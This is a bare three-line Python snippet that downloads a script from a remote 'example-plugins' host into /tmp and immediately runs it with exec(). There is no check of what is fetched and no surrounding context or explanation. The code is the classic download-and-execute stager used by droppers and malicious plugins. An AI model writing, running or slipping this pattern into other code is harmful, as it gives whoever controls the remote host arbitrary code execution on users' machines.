import urllib.request

urllib.request.urlretrieve('https://p.example-plugins.net/p.py', '/tmp/p.py')
exec(open('/tmp/p.py').read())
